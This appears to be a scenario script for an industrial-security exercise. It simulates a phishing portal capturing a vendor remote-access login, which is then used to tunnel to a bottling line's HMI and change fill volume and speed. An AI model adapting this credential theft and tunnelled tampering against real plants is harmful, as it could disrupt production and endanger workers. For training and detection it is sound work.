"""Phishing, then remote access: a login is typed into a false portal and used on the vendor's remote-access box."""

import asyncio
from urllib.parse import parse_qs

from linewarden.exercises.context import Context
from linewarden.exercises.devices import hmi, remote_access, stranger
from linewarden.exercises.devices._http import basic, exchange, fetch, read_head
from linewarden.exercises.devices._tls import client_tls
from linewarden.exercises.line import DEVICES
from linewarden.exercises.scenario import Scenario, Source, Step

PORTAL = "service-portal.example"
SHORT_FILL_ML = 440
AGENT = "Mozilla/5.0 (X11; Linux x86_64)"


def _lure(ctx: Context) -> str:
    """What the victim does: opens the page and types the login of the remote access."""
    user, password = remote_access.LOGIN

    async def browse() -> tuple[int, str]:
        place = DEVICES["stranger"].address
        await fetch(place, stranger.HTTP_PORT, "/invoice", host=PORTAL)
        body = f"user={user}&password={password}".encode()
        return await fetch(place, stranger.HTTP_PORT, "/login", method="POST", body=body, host=PORTAL)

    status, _ = asyncio.run(browse())
    return f"the login of the remote access was typed into the false portal ({status})"


def _caught(ctx: Context) -> tuple[str, str]:
    said = parse_qs((ctx.home() / stranger.CAUGHT).read_text())
    return said["user"][0], said["password"][0]


async def _through(ctx: Context, path: str, method: str = "GET", body: bytes = b"") -> tuple[int, str]:
    """One request to the panel through the remote-access box."""
    box, panel = DEVICES["vendor-remote"].address, DEVICES["hmi-line1"].address
    reader, writer = await asyncio.open_connection(box, remote_access.HTTPS_PORT, ssl=client_tls(),
                                                   server_hostname="ra-gate.vendor.example")  # fmt: skip
    login = basic(*_caught(ctx))["Authorization"]
    head = f"CONNECT {panel}:{hmi.HTTP_PORT} HTTP/1.1\r\nHost: {panel}\r\nAuthorization: {login}\r\n\r\n"
    writer.write(head.encode())
    first, _ = await read_head(reader)
    if " 200 " not in first:
        raise ConnectionError(first)
    try:
        return await exchange(reader, writer, path, method=method, body=body, headers=basic(*hmi.LOGIN), host=panel,
                              agent=AGENT)  # fmt: skip
    finally:
        writer.close()


def _login(ctx: Context) -> str:
    ctx.require_attack_allowed()
    status, _ = asyncio.run(_through(ctx, "/"))
    return f"through the remote access, the panel's page answers with {status}"


def _change(ctx: Context) -> str:
    ctx.require_attack_allowed()
    _, text = asyncio.run(_through(ctx, "/set", "POST", f"fill_ml={SHORT_FILL_ML}&speed=240".encode()))
    return f"content {SHORT_FILL_ML} ml and 240 bottles a minute through the panel: {text}"


SCENARIO = Scenario(
    title="Phishing followed by remote access",
    kind="incident",
    summary="Somebody in the office types the remote access's login into a false portal. From the internet it is "
    "used on the vendor's box, and through it the panel's web view changes content and speed. The writes "
    "come from the panel itself.",
    seconds=70,
    sources=(
        Source("ICS-CERT IR-ALERT-H-16-056-01: Cyber-Attack Against Ukrainian Critical Infrastructure (2015)",
               "https://www.cisa.gov/news-events/ics-alerts/ir-alert-h-16-056-01"),
        Source("CISA AA21-042A: Compromise of U.S. Water Treatment Facility (remote desktop to the HMI)",
               "https://www.cisa.gov/news-events/cybersecurity-advisories/aa21-042a"),
        Source("BSI, Die Lage der IT-Sicherheit in Deutschland 2014, 3.3.1 (steel mill: phishing, then production)",
               "https://www.bsi.bund.de/SharedDocs/Downloads/DE/BSI/Publikationen/Lageberichte/Lagebericht2014.pdf"),
    ),
    steps=(
        Step("lure", 8, "pc-office", "a person opens a false portal and types a login", _lure, ("stranger",),
             ("T0865", "T0863"), hostile=True,
             looks_normal="somebody fills in a form of a page; and the mirror port does not see the office"),
        Step("login", 20, "stranger", "logs in to the vendor's remote-access box and opens the panel", _login,
             ("vendor-remote", "hmi-line1"), ("T0822", "T0859", "T0886"), via=("vendor-remote",), hostile=True),
        Step("change", 32, "stranger", "sets content and speed through the panel's web view", _change,
             ("vendor-remote", "hmi-line1"), ("T0823", "T0836", "T0831"), via=("vendor-remote",), hostile=True,
             impact=True),
    ),
)  # fmt: skip
